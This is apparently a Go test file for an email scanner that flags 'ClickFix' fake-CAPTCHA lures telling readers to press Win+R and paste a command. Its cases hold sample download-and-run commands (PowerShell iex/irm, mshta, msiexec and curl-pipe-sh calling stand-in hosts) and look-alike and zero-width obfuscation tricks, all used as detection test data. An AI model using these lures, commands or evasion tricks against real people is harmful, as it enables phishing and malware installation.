package links

import (
	"bytes"
	"encoding/base64"
	"strings"
	"testing"
)

// TestPasteCommand: a paste-and-run lure ("ClickFix") in the message's
// text, an attached HTML file, an SVG or an archived page marks the
// message (Extracted.PasteCommand); a launcher named without the Run
// dialog or a fake check, or the keys without a launcher, do not.
func TestPasteCommand(t *testing.T) {
	const (
		runPS    = "<h2>Verify you are human</h2><ol><li>Press <kbd>Windows</kbd>&nbsp;+&nbsp;<kbd>R</kbd></li><li>Press Ctrl + V</li><li>Press Enter</li></ol><pre>PoWeRsHeLl -w hidden -enc SQBFAFgA</pre>"
		captcha  = "<p>I'm not a robot. To finish the check press CTRL+V in the box, then Enter.</p><code>mshta https://cdn.lure.example/c.hta</code>"
		howto    = "Open PowerShell as an administrator and run Get-Service KestrelAgent, then reply with the output."
		keysOnly = "Press Win+R, type %appdata% and press Enter to find the profile folder."
		macKeys  = "Press Cmd + Space, type Terminal and paste: curl https://x.example | sh"
	)
	plainMsg := func(body string) []byte {
		return []byte("Content-Type: text/plain; charset=utf-8\r\n\r\n" + body + "\r\n")
	}
	htmlMsg := func(body string) []byte {
		return []byte("Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>" + body + "</body></html>\r\n")
	}
	attached := func(header, doc string) []byte {
		return []byte("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nPlease open the attached file.\r\n" +
			"--b\r\n" + header + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(doc)) + "\r\n--b--\r\n")
	}
	svg := func(text string) string {
		return `<svg xmlns="http://www.w3.org/2000/svg"><text x="1" y="1">` + text + `</text></svg>`
	}
	for _, tc := range []struct {
		name       string
		msg        []byte
		want, file bool
	}{
		{"an attached page: Win+R in kbd tags, mixed-case powershell", attached("Content-Type: text/html; name=\"INV.html\"", "<html>"+runPS+"</html>"), true, true},
		{"an attached page: a fake CAPTCHA asking for Ctrl+V, mshta", attached("Content-Type: text/html\r\nContent-Disposition: attachment; filename=\"check.htm\"", captcha), true, true},
		{"an attached SVG's text", attached("Content-Type: image/svg+xml; name=\"scan.svg\"", svg("Press Win + R, then Ctrl + V: cmd /c start mshta http://198.51.100.7/x")), true, true},
		{"the message's plain text", plainMsg("1. Press the Windows key + R\r\n2. Paste this and press Enter:\r\n   cmd /c start /min powershell -nop -c \"iex(irm 198.51.100.7/v)\""), true, false},
		{"the message's HTML body", htmlMsg("<p>Press <b>Win</b>+<b>R</b> and paste:</p><p>Powershell -c iex(irm x)</p>"), true, false},
		{"a page in an attached gzip file", zipMail("Content-Type: application/gzip; name=\"check.html.gz\"", gz("check.html", []byte("<html>"+runPS+"</html>"))), true, true},
		{"the message's HTML body in Spanish, keys without '+'", htmlMsg("<p>Pulse la tecla <b>Windows</b> y la <b>R</b>, pegue el código con <b>Ctrl V</b> y pulse Intro.</p><p>powershell -c iex(irm x)</p>"), true, false},
		{"a page in an attached zip in German, keys without '+'", zipMail("Content-Type: application/zip; name=\"Rechnung.zip\"", ooxml(map[string]string{"Rechnung.html": "<p>Ich bin kein Roboter: drücken Sie die Windows-Taste und R, dann Strg und V.</p><pre>mshta https://cdn.lure.example/c.hta</pre>"})), true, true},
		{"a fake check installing a package with msiexec", htmlMsg("<p>Verify you are human: press <b>Win</b>+<b>R</b>, then Ctrl+V and Enter.</p><pre>msiexec /q /i https://cdn.lure.example/a.msi</pre>"), true, false},
		{"a fake check, keys without '+', a hidden console running pwsh", plainMsg("I am not a robot: press the Windows key and R, press CTRL and V, press Enter.\r\nconhost --headless pwsh -c iex(irm x)"), true, false},
		{"an installer how-to with msiexec, typed", plainMsg("Press Win+R, type msiexec /i C:\\Temp\\agent.msi and press Enter."), false, false},
		{"pasting into a spreadsheet, PowerShell named", plainMsg("Run the PowerShell export, then press Ctrl V to paste it into the spreadsheet."), false, false},
		{"a launcher named without the Run dialog or a check", plainMsg(howto), false, false},
		{"the Run dialog without a launcher", plainMsg(keysOnly), false, false},
		{"a fake check without a launcher: the check, the Run dialog's keys, a paste", htmlMsg("<p>Complete the security check (I'm not a robot). Press <b>Windows + R</b>, paste the code with <b>Ctrl + V</b> and press <b>Enter</b>.</p>"), true, false},
		{"a fake check without a launcher, keys without '+'", plainMsg("Verify you are human: press the Windows key and R, then CTRL and V, then Enter."), true, false},
		{"a path pasted into the Run dialog, no check", plainMsg("Press Win+R, paste \\\\fs01\\forms with Ctrl+V and press Enter."), false, false},
		{"Human Resources' how-to, no check", plainMsg("Human Resources: press Win+R, paste the share path with Ctrl+V and press Enter."), false, false},
		{"a check without the Run dialog, no launcher", htmlMsg("<p>Verify you are human: paste the code with Ctrl+V in the box below.</p>"), false, false},
		{"a vendor's how-to: the Run dialog and a launcher, typed", plainMsg("Press Win+R, type cmd.exe and press Enter, then run ipconfig /all and send us the output."), false, false},
		{"a vendor's how-to: the power-user menu", htmlMsg("<p>Press <kbd>Win</kbd>+<kbd>X</kbd>, choose Windows PowerShell (Admin) and run the installer again.</p>"), false, false},
		{"a Mac terminal, no Windows launcher", htmlMsg(macKeys), false, false},
		{"a security bulletin warning about the fake check, no launcher", plainMsg("Security tip of the week: fake CAPTCHA pages. Attackers show an 'I'm not a robot' check that asks you to press Win+R, paste with Ctrl+V and press Enter. Never do this: no real website asks you to. Report such pages to the IT helpdesk."), false, false},
		{"an HTML bulletin: beware, do not follow these steps", htmlMsg("<h2>Beware of fake CAPTCHA checks</h2><p>A new scam asks you to verify you are human by pressing <b>Windows + R</b>, then <b>Ctrl + V</b> and Enter. Do not follow these steps.</p>"), false, false},
		{"a bulletin's only warning: don't paste", plainMsg("If a page asks you to verify you are human with Win+R and Ctrl+V, don’t paste anything: report it."), false, false},
		{"a fake check telling the reader not to close the window", htmlMsg("<p>Verify you are human. Press <b>Windows + R</b>, paste with <b>Ctrl + V</b> and press <b>Enter</b>. Do not close this window.</p>"), true, false},
		{"a warned-about lure that names its launcher still counts", plainMsg("Never mind the warning. I'm not a robot: press Win+R, Ctrl+V: powershell -w hidden -enc SQBFAFgA"), true, false},
		{"a fake check pasting with Ctrl+Shift+V", htmlMsg("<p>Complete the security check (I'm not a robot). Press <b>Windows + R</b>, then <b>Ctrl + Shift + V</b> and press <b>Enter</b>.</p>"), true, false},
		{"a fake check pasting with Ctrl Shift V, no '+'", plainMsg("Verify you are human: press the Windows key and R, then Ctrl Shift V, then Enter."), true, false},
		{"a fake check: confirm you are a human", htmlMsg("<p>Cloudflare: confirm you are a human. Press <b>Windows + R</b>, paste with <b>Ctrl + V</b> and press <b>Enter</b>.</p>"), true, false},
		{"a fake check: bot verification", htmlMsg("<p>Bot verification required. Press <b>Windows + R</b>, paste with <b>Ctrl + V</b> and press <b>Enter</b>.</p>"), true, false},
		{"a fake check: prove you're not a bot", htmlMsg("<p>Prove you're not a bot: press <b>Windows + R</b>, paste with <b>Ctrl + V</b> and press <b>Enter</b>.</p>"), true, false},
		{"not a bother, no check", plainMsg("It's not a bother: press Win+R, paste the share path with Ctrl+V and press Enter."), false, false},
		{"an attached page without instructions", attached("Content-Type: text/html; name=\"s.html\"", "<p>Statement for March</p><p>powershell scripts attached separately</p>"), false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x, err := ExtractAll(tc.msg, Options{})
			if err != nil || x.PasteCommand != (tc.want && !tc.file) || x.PasteFile != (tc.want && tc.file) {
				t.Errorf("PasteCommand = %v, PasteFile = %v (%v), want %v in a file %v", x.PasteCommand, x.PasteFile, err, tc.want, tc.file)
			}
		})
	}
}

// TestPasteCompact: the compacted text drops tags, white space and
// invisible characters and decodes the references for ASCII characters;
// pasteRef reads numeric references with or without ';' and the named
// ones it knows.
func TestPasteCompact(t *testing.T) {
	for _, tc := range []struct{ doc, want string }{
		{"Press <kbd>Win</kbd>&nbsp;+&NBSP;<kbd>R</kbd>", "presswin+r"},
		{"power&#115;hell &#x6D;sh&#X74;a &#112owershell", "powershellmshtapowershell"},
		{"po\u200bwer\u00adsh\u2060el\ufeffl\u3000x\u2009y", "powershellxy"},
		{"a&shy;b&zwnj;c&zwj;d&ZeroWidthSpace;e&NoBreak;f&#8203;g&#173;h&#xA0;i", "abcdefghi"},
		{"Win&plus;R &#43;", "win+r+"},
		{"&amp; &SHY; &#0; &#xd800; &#1114112; &#8217; &#", "&amp;&shy;&#0;&#xd800;&#1114112;&#8217;&#"},
		{"café \u00e9 <b", "café\u00e9<b"},
		{"&#0000000115;&#x000000000073 &#00000000000000000000000000000000000000000000000000112", "ssp"},
		{"a&shyb&nbspc&nbsp;d", "abcd"},
		{"&#X4E00; &#X00 &#xAB", "&#x4e00;&#x00&#xab"},                       // left as written, lower-cased
		{"\xc2  \xa0 power\xffshell \xe2\u200b\x80\x8b", "??power?shell???"}, // bytes that are no UTF-8 join nothing
		{"&#99999999999999999999999; &#x1000000000000000070;", "&#99999999999999999999999;&#x1000000000000000070;"},
		{"pоwershell mshtа pοwershell &#1086;", "powershellmshtapowershello"}, // Cyrillic о, а, Greek ο, a reference
		{"ＰｏｗｅｒＳｈｅｌｌ＋ｒ", "powershell+r"},                                      // fullwidth, capitals lower-cased
		{"Я не робот, ΟΧΙ", "Янepoбoт,oxi"},                                   // look-alikes fold, the other letters stay as written
		{"Жбфλé", "Жбфλé"},                                                    // no look-alike: as written
	} {
		if got := string(pasteCompact([]byte(tc.doc))); got != tc.want {
			t.Errorf("pasteCompact(%q) = %q, want %q", tc.doc, got, tc.want)
		}
	}
	for _, l := range pasteLaunchers {
		if l.at >= len(l.name) || !containsLauncher([]byte("x"+l.name)) || containsLauncher([]byte(l.name[1:])) {
			t.Errorf("launcher %q: anchor %d misread", l.name, l.at)
		}
	}
}

// FuzzPasteCommand: pasteCommand never fails, keysNamed reads every key
// name written in plain ASCII, leadKey every key written from a
// fullwidth or Cyrillic initial (as everyLeadKey), padding with fullwidth
// commas or Russian letters before it or not, and the text it reads is never longer than
// the document, nor holds white space or upper-case ASCII letters.
func FuzzPasteCommand(f *testing.F) {
	f.Add([]byte("Press <kbd>Win</kbd>&nbsp;+&nbsp;<kbd>R</kbd>, Ctrl+V: powershell -enc x"))
	f.Add([]byte("<<<>+<b+&nbsp;cmd /c \xc2\xa0"))
	f.Add([]byte("Win+R ctrl v p&#x6F;wer\u200bsh&shy;ell &#1114112;&#0000000000115; &#X6d&#"))
	f.Add([]byte("Win+R Ctrl+V робот p\u043ewershell msht\u0430 \uff30\uff4f\uff57 &#1086;\uff1c"))
	f.Add([]byte("\uff37\uff49\uff4e\uff0b\uff32 \u0421trl V W\u0456n \u0405TRG \uff0b \u0425 powershell"))
	f.Add([]byte("press \uff37\uff49\uff4e\uff0b\uff32, \uff23\uff54\uff52\uff4c\uff0b\uff36: powershell -enc x"))
	f.Add([]byte("\u0441trl v"))
	f.Add([]byte("строка \u0441\u200bt\u00adr\uff4c \u0421\uff34\uff32L \u0455t\uff52g \uff43\uff54\uff52\uff4c \uff53TRG"))
	f.Fuzz(func(t *testing.T, doc []byte) {
		pasteCommand(doc)
		if containsAny(doc, []string{"Win", "WIN", "Ctrl", "CTRL", "Strg", "STRG", "ctrl", "⊞"}) && !keysNamed(doc) {
			t.Fatalf("keysNamed(%q) misses a key name written in ASCII", doc)
		}
		want := everyLeadKey(doc)
		for _, pad := range []string{"", strings.Repeat("\uff0c", leadMisses+8), strings.Repeat("\u0441 \u0421 ", leadMisses+1)} {
			if got := leadKey(append([]byte(pad), doc...)); got != want {
				t.Fatalf("leadKey(%q after %d bytes of padding) = %v, want %v", doc, len(pad), got, want)
			}
		}
		c := pasteCompact(doc)
		if len(c) > len(doc) || bytes.ContainsAny(c, " \t\r\nABCDEFGHIJKLMNOPQRSTUVWXYZ\u00a0\u200b\u00ad") {
			t.Fatalf("compacted %q to %q", doc, c)
		}
		want = false
		for _, l := range pasteLaunchers {
			want = want || bytes.Contains(c, []byte(l.name))
		}
		if containsLauncher(c) != want {
			t.Fatalf("containsLauncher(%q) = %v, want %v", c, !want, want)
		}
	})
}

// TestPasteCommandLookAlike: a lure whose launcher is spelled with
// look-alike letters of another alphabet (Cyrillic, Greek) or in fullwidth
// letters reads as the launcher; Russian and Greek text keeps its words
// (the bait "робот" still reads) and names no launcher by accident.
func TestPasteCommandLookAlike(t *testing.T) {
	const (
		plus = "Verify you are human: press Win + R, then Ctrl + V and Enter.\n"
		tail = " -w hidden -c \"iex(irm 198.51.100.7/v)\""
	)
	for _, tc := range []struct {
		name string
		doc  string
		want bool
	}{
		{"Cyrillic о in powershell", plus + "p\u043ewershell" + tail, true},
		{"Cyrillic о, е, р, с, һ, ӏ in powershell", plus + "\u0440\u043ew\u0435r\u0455\u04bb\u0435\u04cf\u04cf" + tail, true},
		{"Cyrillic а in mshta", plus + "msht\u0430 https://cdn.lure.example/c.hta", true},
		{"Cyrillic capitals in CMD", plus + "\u0421MD /c start https://cdn.lure.example/c.exe", true},
		{"Greek ο in powershell", plus + "p\u03bfwershell" + tail, true},
		{"Greek capitals in conhost", plus + "\u039f\u039d\u0397\u039f\u03a3T conhost", true},
		{"fullwidth powershell", plus + "\uff50\uff4f\uff57\uff45\uff52\uff53\uff48\uff45\uff4c\uff4c" + tail, true},
		{"fullwidth capitals", plus + "\uff30\uff2f\uff37\uff25\uff32\uff33\uff28\uff25\uff2c\uff2c" + tail, true},
		{"a Cyrillic о as a reference", plus + "p&#1086;wershell" + tail, true},
		{"Russian bait with Ctrl+V", "Я не робот: нажмите Ctrl + V и Enter. powershell" + tail, true},

		{"a look-alike how-to, typed", "Press Win+R, type p\u043ewershell and press Enter, then run Get-Service.", false},
		{"Russian text with keys, no launcher", "Я не робот: нажмите Ctrl + V и Enter, чтобы вставить текст в окно сообщения. Спасибо, коллеги!", false},
		{"Greek text with keys, no launcher", "Πατήστε Ctrl + V για επικόλληση του κειμένου. Είμαι άνθρωπος, όχι ρομπότ, ευχαριστώ πολύ.", false},
		// without the check's words, which with keys and a paste count without a launcher
		{"a letter that only resembles", "Press Win + R, then Ctrl + V and Enter.\n" + "p\u00f6wershell" + tail, false}, // ö is no look-alike of o here
	} {
		if got := pasteCommand([]byte(tc.doc)); got != tc.want {
			t.Errorf("%s: pasteCommand(%q) = %v, want %v", tc.name, tc.doc, got, tc.want)
		}
	}
	for i, w := range pasteBait {
		if !bytes.Contains(pasteCompact([]byte("x "+w+" y")), []byte(pasteBaitCompact[i])) {
			t.Errorf("bait %q does not read as %q", w, pasteBaitCompact[i])
		}
	}
}

// TestPasteCommandDisguised: a paste-and-run lure whose launcher (or key
// name) is spelled with character references ("power&#115;hell"), split by
// invisible characters (zero-width space, joiners, word joiner, soft
// hyphen, raw or as references) or by tags ("power<span>shell</span>"),
// or written in mixed case or lower-case keys without "+", reads as the
// launcher and the keys; the same disguises in a how-to that has the
// reader type, in a newsletter's invisible preheader padding, or in text
// without the Run dialog, do not.
func TestPasteCommandDisguised(t *testing.T) {
	const (
		plus   = "Verify you are human: press Win + R, then Ctrl + V and Enter.\n"
		noPlus = "Verify you are human: press the Windows key and R, then CTRL and V, then Enter.\n"
		tail   = " -w hidden -c \"iex(irm 198.51.100.7/v)\""
	)
	for _, tc := range []struct {
		name string
		doc  string
		want bool
	}{
		{"decimal reference", plus + "power&#115;hell" + tail, true},
		{"hexadecimal reference", plus + "&#x6d;shta https://cdn.lure.example/c.hta", true},
		{"reference for the first letter", plus + "&#112;owershell" + tail, true},
		{"upper-case hexadecimal reference", plus + "&#X70;&#X77;sh" + tail, true},
		{"zero-width space", plus + "power\u200bshell" + tail, true},
		{"zero-width non-joiner", plus + "ms\u200chta https://cdn.lure.example/c.hta", true},
		{"zero-width joiner", plus + "p\u200do\u200dw\u200dershell" + tail, true},
		{"word joiner", plus + "power\u2060shell" + tail, true},
		{"soft hyphen", plus + "power\u00adshell" + tail, true},
		{"byte order mark", plus + "power\ufeffshell" + tail, true},
		{"soft hyphen as a named reference", plus + "power&shy;shell" + tail, true},
		{"zero-width references", plus + "power&ZeroWidthSpace;sh&zwnj;e&zwj;ll&NoBreak;" + tail, true},
		{"zero-width space as a numeric reference", plus + "power&#8203;shell" + tail, true},
		{"tags inside the launcher", plus + "power<span>shell</span>" + tail, true},
		{"keys without '+', spaces as references without ';'", "Verify you are human: press the Windows&#32key and R, then CTRL&#32V, then Enter.\npowershell" + tail, true},
		{"keys without '+', spaces as references with leading zeros", "Verify you are human: press the Windows&#0000000032;key and R, then CTRL&#x00000000020;V, then Enter.\npowershell" + tail, true},
		{"a soft hyphen named without ';'", plus + "power&shyshell" + tail, true},
		{"a reference with leading zeros", plus + "power&#0000000115;hell" + tail, true},
		{"a hexadecimal reference with leading zeros", plus + "&#x000000006D;shta https://cdn.lure.example/c.hta", true},
		{"keys without '+', a reference", noPlus + "power&#115;hell" + tail, true},
		{"keys without '+', a zero-width space", noPlus + "ms\u200bhta https://cdn.lure.example/c.hta", true},
		{"keys without '+', tags inside the launcher", noPlus + "<p>power<span>shell</span>" + tail + "</p>", true},
		{"keys without '+', mixed case", noPlus + "PoWeRsHeLl" + tail, true},
		{"keys without '+', mixed case cmd", noPlus + "CmD /c start /min https://cdn.lure.example/c.exe", true},
		{"keys in lower case without '+'", "to verify you are human press win r then ctrl v then enter\n" + "powershell" + tail, true},
		{"a key name split by a zero-width space", "Press W\u200bin + R, paste with Ctrl + V: powershell" + tail, true},
		{"a key name split by a reference, no '+'", "Please press the Win&#100;ows key and R, then CTRL and V.\n" + "powershell" + tail, true},
		{"a key name split by a soft hyphen, no '+'", "Please press the Win\u00addows key and R, then CTRL and V.\n" + "powershell" + tail, true},

		{"a how-to, a reference, typed", "Press Win+R, type power&#115;hell and press Enter, then run Get-Service.", false},
		{"a how-to without '+', mixed case, typed", "Press the Windows key and R, type PowerShell and press Enter.", false},
		{"preheader padding beside Windows and paste", "<div style=\"display:none\">Windows 11 tips&zwnj;&nbsp;&zwnj;&nbsp;\u200c\u00ad</div><p>Copy and paste the coupon code at checkout.</p>", false},
		{"a launcher with references, no keys", "Open power&#115;hell and paste the script below.", false},
		{"lower-case words that are no keys", "the window is open; paste the link in your browser and run the cmd.exe installer", false},
		// without the check's words: with them, keys and a paste count without a launcher
		{"a reference that is no letter", "Press Win + R, then Ctrl + V and Enter.\n" + "power&#0;shell" + tail, false},
	} {
		if got := pasteCommand([]byte(tc.doc)); got != tc.want {
			t.Errorf("%s: pasteCommand(%q) = %v, want %v", tc.name, tc.doc, got, tc.want)
		}
	}
}

// TestPasteCommandLookAlikeKeys: key names written with look-alike
// letters of another alphabet or in fullwidth letters ("Ｗｉｎ＋Ｒ", "Сtrl V"
// with a Cyrillic С, "WΙΝ R" with Greek capitals) make a text read closely
// and read as the keys; Russian, Greek and Chinese text and a look-alike
// how-to that has the reader type do not.
func TestPasteCommandLookAlikeKeys(t *testing.T) {
	const (
		tail = " -w hidden -c \"iex(irm 198.51.100.7/v)\""
		hta  = " https://cdn.lure.example/c.hta"
	)
	for _, tc := range []struct {
		name string
		doc  string
		want bool
	}{
		{"fullwidth keys and plus", "Verify you are human: \uff37\uff49\uff4e\uff0b\uff32\uff0c\uff23\uff54\uff52\uff4c\uff0b\uff36\uff0c Enter.\npowershell" + tail, true},
		{"a Cyrillic С in Ctrl, no '+'", "Verify you are human: press the Windows key and R, then \u0421trl and V, then Enter.\npowershell" + tail, true},
		{"a Cyrillic і in Win and с in ctrl, no '+'", "I am not a robot: press W\u0456n R, then \u0441trl V, then Enter. mshta" + hta, true},
		{"Greek capitals in WIN, a Cyrillic ӏ in ctrl", "Verify you are human: press W\u0399\u039d R, then ctr\u04cf V and Enter.\npowershell" + tail, true},
		{"a Cyrillic Ѕ in Strg, German", "Ich bin kein Roboter: drücken Sie die W\u0456ndows-Taste und R, dann \u0405trg und V.\nmshta" + hta, true},
		{"a fullwidth plus after lower-case keys", "press w\u0456n\uff0b\uff52 and paste the code: powershell" + tail, true},
		{"fullwidth keys with ASCII '+'", "\uff37\uff49\uff4e+\uff32 then \uff43\uff54\uff52\uff4c+\uff56: powershell" + tail, true},

		{"a fullwidth how-to, typed", "Press \uff37\uff49\uff4e\uff0b\uff32, type powershell and press Enter.", false},
		{"Russian text, a paste word, no keys", "Сторона СТРОКА: нажмите кнопку и вставьте текст в окно. powershell" + tail, false},
		{"Chinese text with fullwidth punctuation", "你好，世界！请运行（powershell）脚本，谢谢。", false},
	} {
		if got := pasteCommand([]byte(tc.doc)); got != tc.want {
			t.Errorf("%s: pasteCommand(%q) = %v, want %v", tc.name, tc.doc, got, tc.want)
		}
	}
}

// TestCloseReadTrigger: keysNamed and plusKey, which choose the texts read
// closely, see key names and keys after '+' written with look-alike
// letters (Cyrillic, Greek) or in fullwidth letters, and not Russian,
// Greek or Chinese words or fullwidth words that are no keys.
func TestCloseReadTrigger(t *testing.T) {
	for _, tc := range []struct {
		doc         string
		named, plus bool
	}{
		{"Press Win", true, false},
		{"\uff37\uff49\uff4e", true, false},       // Ｗｉｎ
		{"\uff37\uff29\uff2e", true, false},       // ＷＩＮ
		{"\uff23\uff54\uff52\uff4c", true, false}, // Ｃｔｒｌ
		{"\uff43\uff54\uff52\uff4c", true, false}, // ｃｔｒｌ
		{"\uff33\uff54\uff52\uff47", true, false}, // Ｓｔｒｇ
		{"W\u0456n", true, false},                 // Cyrillic і
		{"W\u0399\u039d", true, false},            // Greek Ι Ν
		{"C\u0422RL", true, false},                // Cyrillic Т
		{"\u0421trl", true, false},                // Cyrillic С
		{"\u0441trl", true, false},                // Cyrillic с
		{"\u0421TRL", true, false},                // Cyrillic С, capitals
		{"\u0405trg", true, false},                // Cyrillic Ѕ
		{"C\uff54rl", true, false},                // a fullwidth t after C
		{"c\uff54rl w\uff49n", false, false},      // lower case, a plain first letter: not read here
		{"Ct\u0433l", false, false},               // Cyrillic г is no r
		{"ctr\u04cf", false, false},               // a look-alike in lower-case ctrl is not read here
		{"key \uff0b\uff32", true, false},         // ＋Ｒ
		{"key \uff0b \u0425", true, false},        // ＋ and a Cyrillic Х
		{"Win+\uff32", true, true},                // Ｒ after '+'
		{"Ctrl + \u03bd", true, true},             // Greek ν after '+'
		{"a + \u0425", false, true},               // Cyrillic Х after '+'
		{"a + \u0420", false, false},              // Cyrillic Р reads p
		{"Сторона СТРОКА, строка", false, false},  // Russian words
		{"Πατήστε για επικόλληση", false, false},  // Greek words
		{"你好，世界！（测试）", false, false},              // fullwidth punctuation
		{"\uff23\uff4f\uff4d\uff50\uff41\uff4e\uff59 \uff37\uff29\uff26\uff29", false, false}, // Ｃｏｍｐａｎｙ ＷＩＦＩ
		{"Strong petrol, electric Central", false, false},
	} {
		if got := keysNamed([]byte(tc.doc)); got != tc.named {
			t.Errorf("keysNamed(%q) = %v, want %v", tc.doc, got, tc.named)
		}
		if got := plusKey([]byte(tc.doc)); got != tc.plus {
			t.Errorf("plusKey(%q) = %v, want %v", tc.doc, got, tc.plus)
		}
	}
}

// TestLeadKeyDense: characters that are no key (Chinese punctuation,
// Russian letters), however many stand before it, hide no key written
// from a fullwidth or Cyrillic initial: 40 fullwidth commas once made the
// search give up before "Ｗｉｎ＋Ｒ".
func TestLeadKeyDense(t *testing.T) {
	for _, tc := range []struct{ name, pad, key string }{
		{"Chinese punctuation", "好，", "\uff37\uff49\uff4e\uff0b\uff32"}, // Ｗｉｎ＋Ｒ
		{"fullwidth commas", "\uff0c", "\uff37\uff49\uff4e"},            // ，，，Ｗｉｎ
		{"fullwidth commas, a plus", "\uff0c", " \uff0b\uff32"},         // ＋Ｒ
		{"fullwidth commas, lower case", "\uff0c", "\uff43\uff54\uff52\uff4c"},
		{"Russian letters", "С ", "\u0421trl"}, // Сtrl after С (D0 A1)
		{"Russian small letters", "с ", "\u0441trl"},
		{"Russian words", "Строка с текстом ", "\u0405TRG"},
	} {
		for _, n := range []int{1, 31, 33, 40, 1000} {
			doc := []byte(strings.Repeat(tc.pad, n) + tc.key)
			if !leadKey(doc) {
				t.Errorf("%s: leadKey misses the key after %d characters that are none", tc.name, n)
			}
			if leadKey(doc[:len(doc)-len(tc.key)]) {
				t.Errorf("%s: leadKey reads a key in %d characters that are none", tc.name, n)
			}
		}
	}
	letters := strings.Repeat("\uff41", 200) + " \uff37\uff49\uff4e" // ａａａ... Ｗｉｎ
	if !leadKey([]byte(letters)) {
		t.Errorf("leadKey: misses a key after fullwidth letters")
	}
}

// everyLeadKey is leadKey reading every character that starts with 0xEF,
// 0xD0 or 0xD1, however many are no key.
func everyLeadKey(doc []byte) bool {
	for i, b := range doc {
		var key bool
		switch b {
		case 0xef:
			_, key = fullwidthAt(doc, i)
		case 0xd0, 0xd1:
			_, key = cyrillicAt(doc, i)
		}
		if key {
			return true
		}
	}
	return false
}

// TestPasteCommandPadded: a lure written in fullwidth letters is read
// however much fullwidth punctuation stands before its keys.
func TestPasteCommandPadded(t *testing.T) {
	lure := "press \uff37\uff49\uff4e\uff0b\uff32, then \uff23\uff54\uff52\uff4c\uff0b\uff36 and Enter: powershell -enc SQBFAFgA"
	for _, n := range []int{0, 40, 5000} {
		if doc := strings.Repeat("\uff0c", n) + lure; !pasteCommand([]byte(doc)) {
			t.Errorf("pasteCommand misses the lure after %d fullwidth commas", n)
		}
	}
}

// TestPasteCommandLureWords: without a launcher named, only phrases
// about the steps spare a text (a bulletin's "never do this", "fake
// CAPTCHA"); a lure's own words near its steps, or words the compacted
// text runs together, do not, and a how-to pasting a path is no fake
// check however it is signed.
func TestPasteCommandLureWords(t *testing.T) {
	plainMsg := func(body string) []byte {
		return []byte("Content-Type: text/plain; charset=utf-8\r\n\r\n" + body + "\r\n")
	}
	htmlMsg := func(body string) []byte {
		return []byte("Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>" + body + "</body></html>\r\n")
	}
	const lure = "<p>Verify you are human. Press <b>Windows + R</b>, paste with <b>Ctrl + V</b> and press <b>Enter</b>.</p>"
	for _, tc := range []struct {
		name string
		msg  []byte
		want bool
	}{
		{"an anti-fraud check", htmlMsg("<p>Anti-fraud check.</p>" + lure), true},
		{"never share this code", htmlMsg(lure + "<p>Never share this code with anyone.</p>"), true},
		{"to protect you from scams", htmlMsg("<p>To protect you from scams and hackers:</p>" + lure), true},
		{"a beware of phishing footer", htmlMsg(lure + "<p>Beware of phishing emails.</p>"), true},
		{"on every device", htmlMsg("<p>This check runs once on every device.</p>" + lure), true},
		{"this camera", htmlMsg("<p>Unlock this camera feed.</p>" + lure), true},
		{"a hidden scam", htmlMsg("<span style=\"display:none\">scam</span>" + lure), true},
		{"then every step", plainMsg("Verify you are human: press Win+R, then every step below: Ctrl+V and Enter."), true},
		{"click I am not a bot", plainMsg("Click 'I am not a bot' to continue: press Win+R, paste with Ctrl+V and press Enter."), true},
		{"confirm I'm not a bot", plainMsg("Confirm I'm not a bot: press Win+R, paste with Ctrl+V and press Enter."), true},
		{"a bulletin: it is a scam", plainMsg("Security tip: if a CAPTCHA asks you to press Win+R and paste with Ctrl+V, it is a scam. Close the page and call the help desk."), false},
		{"a bulletin: this is phishing", plainMsg("Beware: attackers show an 'I'm not a robot' page asking you to press Win+R, paste with Ctrl+V and press Enter. This is phishing; report it."), false},
		{"a bulletin: never do that", plainMsg("If a CAPTCHA tells you to press Win+R and then Ctrl+V, never do that."), false},
		{"a bulletin: don't do it", plainMsg("Criminals use fake 'verify you are human' pages: press Win+R, Ctrl+V, Enter. Don't do it."), false},
		{"a bulletin: never do this", plainMsg("Security tip: fake CAPTCHA pages show an 'I'm not a robot' check that asks you to press Win+R, paste with Ctrl+V and press Enter. Never do this."), false},
		{"Bay Area Human Resources", plainMsg("To open the benefits folder, press Win+R, paste \\\\fs01\\benefits with Ctrl+V and press Enter.\r\n-- Bay Area Human Resources"), false},
		{"not a botanist", plainMsg("Press Win+R, paste \\\\fs01\\garden with Ctrl+V and press Enter for the planting plan. (I am not a botanist, so check the species list.)"), false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x, err := ExtractAll(tc.msg, Options{})
			if err != nil || x.PasteCommand != tc.want {
				t.Errorf("PasteCommand = %v (%v), want %v", x.PasteCommand, err, tc.want)
			}
		})
	}
}
